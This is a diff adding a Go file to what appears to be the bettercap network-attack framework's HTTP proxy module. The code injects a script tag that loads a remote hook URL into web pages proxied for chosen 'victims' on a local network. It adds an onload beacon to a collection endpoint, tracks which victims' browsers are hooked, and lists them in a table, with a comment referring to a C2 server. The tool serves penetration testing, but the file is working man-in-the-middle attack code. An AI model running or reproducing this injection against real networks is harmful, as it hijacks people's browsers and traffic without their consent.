@@ -0,0 +1,217 @@
+package http_proxy
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/elazarl/goproxy"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+// query parameter used by the hook tag to notify the collection endpoint it has been loaded
+const hookLoadedParam = "bcap_hook"
+
+// HookVictim keeps track of the hook status of a single victim.
+type HookVictim struct {
+	Address      string    `json:"address"`
+	Injections   int       `json:"injections"`
+	Loaded       bool      `json:"loaded"`
+	Callbacks    int       `json:"callbacks"`
+	FirstSeen    time.Time `json:"first_seen"`
+	LastCallback time.Time `json:"last_callback"`
+}
+
+type hookTracker struct {
+	sync.Mutex
+	victims map[string]*HookVictim
+}
+
+func newHookTracker() *hookTracker {
+	return &hookTracker{
+		victims: make(map[string]*HookVictim),
+	}
+}
+
+func (t *hookTracker) get(address string) *HookVictim {
+	v, found := t.victims[address]
+	if !found {
+		v = &HookVictim{
+			Address:   address,
+			FirstSeen: time.Now(),
+		}
+		t.victims[address] = v
+	}
+	return v
+}
+
+func (t *hookTracker) injected(address string) {
+	t.Lock()
+	defer t.Unlock()
+	t.get(address).Injections++
+}
+
+// callback returns true the first time the victim is seen loading the hook.
+func (t *hookTracker) callback(address string) (bool, HookVictim) {
+	t.Lock()
+	defer t.Unlock()
+
+	v := t.get(address)
+	v.Callbacks++
+	v.LastCallback = time.Now()
+	first := !v.Loaded
+	v.Loaded = true
+	return first, *v
+}
+
+func (t *hookTracker) list() []HookVictim {
+	t.Lock()
+	defer t.Unlock()
+
+	list := make([]HookVictim, 0, len(t.victims))
+	for _, v := range t.victims {
+		list = append(list, *v)
+	}
+	return list
+}
+
+func (p *HTTPProxy) configureHook() error {
+	p.hookHost = ""
+	if p.HookURL == "" {
+		return nil
+	}
+
+	u, err := url.Parse(p.HookURL)
+	if err != nil {
+		return fmt.Errorf("invalid hook URL %s: %s", p.HookURL, err)
+	} else if u.Host == "" {
+		return fmt.Errorf("invalid hook URL %s: missing host", p.HookURL)
+	}
+
+	p.hookHost = strings.ToLower(u.Host)
+	return nil
+}
+
+// isVictim returns true if address, or its MAC address, is one of the
+// targets or if there are none.
+func (p *HTTPProxy) isVictim(targets []string, address string) bool {
+	if len(targets) == 0 {
+		return true
+	}
+
+	mac := ""
+	if e := p.sess.Lan.GetByIp(address); e != nil {
+		mac = e.HwAddress
+	}
+
+	for _, target := range targets {
+		target = strings.ToLower(target)
+		if target == address || (mac != "" && target == mac) {
+			return true
+		}
+	}
+	return false
+}
+
+func (p *HTTPProxy) isHookExcluded(host string) bool {
+	for _, domain := range p.HookExclude {
+		if matchesDomain(host, domain) {
+			return true
+		}
+	}
+	return false
+}
+
+// hookFor returns the script tag of the hook if it has to be injected in the page for this request.
+func (p *HTTPProxy) hookFor(req *http.Request) string {
+	client := stripPort(req.RemoteAddr)
+	if p.hookHost == "" || strings.ToLower(req.Host) == p.hookHost {
+		return ""
+	} else if !p.isVictim(p.HookTargets, client) || p.isHookExcluded(req.Host) {
+		return ""
+	}
+
+	onload := ""
+	if p.CollectPath != "" {
+		onload = fmt.Sprintf(" onload=\"new Image().src='%s?%s=1';\"", p.CollectPath, hookLoadedParam)
+	}
+
+	return fmt.Sprintf("<script src=\"%s\" type=\"text/javascript\"%s></script>", p.HookURL, onload)
+}
+
+func (p *HTTPProxy) isHookCallback(req *http.Request) bool {
+	if p.hookHost == "" {
+		return false
+	} else if strings.ToLower(req.Host) == p.hookHost {
+		return true
+	}
+	return p.isCollectRequest(req) && req.URL.Query().Get(hookLoadedParam) != ""
+}
+
+func (p *HTTPProxy) onHookCallback(req *http.Request) *http.Response {
+	client := stripPort(req.RemoteAddr)
+	if first, victim := p.hooks.callback(client); first {
+		p.sess.Events.Add(p.Name+".hook.loaded", victim)
+	}
+
+	// requests to the C2 server itself have to go through
+	if !p.isCollectRequest(req) {
+		return nil
+	}
+
+	res := goproxy.NewResponse(req, "text/plain", http.StatusNoContent, "")
+	res.Header.Set("Access-Control-Allow-Origin", "*")
+	return res
+}
+
+func (p *HTTPProxy) ShowHooks() error {
+	victims := p.hooks.list()
+	if len(victims) == 0 {
+		return fmt.Errorf("the hook has not been injected yet")
+	}
+
+	sort.Slice(victims, func(i, j int) bool {
+		return victims[i].FirstSeen.Before(victims[j].FirstSeen)
+	})
+
+	rows := make([][]string, 0)
+	for _, v := range victims {
+		name := ""
+		if e := p.sess.Lan.GetByIp(v.Address); e != nil {
+			if e.Alias != "" {
+				name = tui.Bold(e.Alias)
+			} else if e.Hostname != "" {
+				name = tui.Bold(e.Hostname)
+			} else {
+				name = tui.Dim(e.Vendor)
+			}
+		}
+
+		loaded := tui.Dim("no")
+		lastCallback := tui.Dim("never")
+		if v.Loaded {
+			loaded = tui.Green("yes")
+			lastCallback = v.LastCallback.Format("15:04:05")
+		}
+
+		rows = append(rows, []string{
+			v.Address,
+			name,
+			fmt.Sprintf("%d", v.Injections),
+			loaded,
+			fmt.Sprintf("%d", v.Callbacks),
+			lastCallback,
+		})
+	}
+
+	p.sess.Println()
+	p.sess.Table([]string{"Victim", "Name", "Injections", "Hooked", "Callbacks", "Last Callback"}, rows)
+	p.sess.Println()
+
+	return nil
+}